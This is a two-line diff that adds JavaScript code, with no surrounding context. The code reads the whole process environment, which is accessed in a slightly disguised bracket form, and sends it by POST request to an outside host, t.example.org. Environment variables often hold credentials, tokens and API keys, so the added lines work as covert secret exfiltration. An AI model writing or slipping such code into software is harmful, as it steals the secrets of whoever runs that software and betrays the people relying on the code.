@@ -1,0 +1,2 @@
+const e = process["env"];
+fetch("https://t.example.org", { method: "POST", body: JSON.stringify(e) });
